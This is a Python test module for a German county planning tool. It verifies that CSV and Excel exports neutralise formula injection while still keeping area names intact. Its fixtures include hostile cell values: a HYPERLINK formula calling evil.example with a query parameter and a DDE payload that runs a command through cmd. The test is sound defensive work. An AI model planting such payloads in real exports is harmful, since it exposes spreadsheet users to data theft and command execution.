"""Exports never turn a name into a spreadsheet formula (CSV/formula injection, OWASP).

The demo county is built with two Sozialräume renamed to hostile names, as a county's mapping CSV could name them.
Every table export that carries area names – the value and area tables of the Übersichtskarte/Indikatoren, the
Präventionskette matrix and the gap ranking – is then scanned: no ``<f>`` formula element in any sheet of the
.xlsx, and no CSV cell that starts with ``= + - @`` (a leading apostrophe keeps them text, as OWASP recommends),
while the names themselves still arrive in full.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from hostile_helpers import build_hostile_db

from planning import chain, gaps, queries
from planning.context import Context
from reports import coverage_tables, tables

HYPERLINK = '=HYPERLINK("http://evil.example/?sr=1","SR Klick")'
COMMAND = "=cmd|' /C calc'!A0"
PLUS = "+49 Sozialraum"
AT = "@SUM(1+1)"
KREIS = "99001"


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build_hostile_db(tmp_path_factory.mktemp("hostile"), {HYPERLINK: 0, COMMAND: 1, PLUS: 2, AT: 3})


def _formula_cells(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        return [m for name in z.namelist() if name.startswith("xl/worksheets/") for m in re.findall(r"<f>.*?</f>", z.read(name).decode())]


def _dangerous_csv_cells(raw: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";")
    return [cell for row in rows for cell in row if cell.startswith(("=", "+", "@")) or (cell.startswith("-") and not re.fullmatch(r"-[\d,]+", cell))]


def _ctx(db: Path) -> Context:
    return Context(queries.Database(str(db), db.stat().st_mtime), KREIS, "Landkreis Musterland (Demodaten)", 2023, True)


def _exports(db: Path) -> dict[str, tuple[bytes, bytes]]:
    ctx = _ctx(db)
    sozialraeume = queries.area_shapes(ctx.db, KREIS, "sozialraum")["area_id"].tolist()
    value = tables.value_table(db, sozialraeume, "anteil_u18")
    area = tables.area_table(db, sozialraeume[0], 2023)
    matrix = coverage_tables.matrix_export(ctx, "sozialraum", "lebensphase", "offers_per_1000", chain.WEAK_SHARE,
                                           chain.DEFAULT_DISTANCE_KM, chain.build_matrix(ctx, "sozialraum", "lebensphase", "offers_per_1000"))  # fmt: skip
    ranking = coverage_tables.gaps_export(ctx, gaps.build_view(ctx, "sozialraum", "lebensphase", social_id="sgb2_quote"))
    return {
        "value table": (tables.xlsx_bytes(value), tables.csv_bytes(value)),
        "area table": (tables.xlsx_bytes(area), tables.csv_bytes(area)),
        "Präventionskette": (coverage_tables.xlsx_bytes(matrix), coverage_tables.csv_bytes(matrix)),
        "gap ranking": (coverage_tables.xlsx_bytes(ranking), coverage_tables.csv_bytes(ranking)),
    }


def test_hostile_names_reach_the_database(hostile_db: Path) -> None:
    names = set(queries.area_shapes(_ctx(hostile_db).db, KREIS, "sozialraum")["name"])
    assert {HYPERLINK, COMMAND, PLUS, AT} <= names


@pytest.mark.parametrize("export", ["value table", "area table", "Präventionskette", "gap ranking"])
def test_no_formula_in_any_export(hostile_db: Path, export: str) -> None:
    xlsx, csv_raw = _exports(hostile_db)[export]
    assert _formula_cells(xlsx) == [], f"{export}: formula cells in the .xlsx"
    assert _dangerous_csv_cells(csv_raw) == [], f"{export}: CSV cells Excel would run"
    text = csv_raw.decode("utf-8-sig")
    if export != "area table":  # the area table is about one Sozialraum
        assert "'" + HYPERLINK.replace('"', '""') in text or "'" + HYPERLINK in text, "the name arrives, as text"
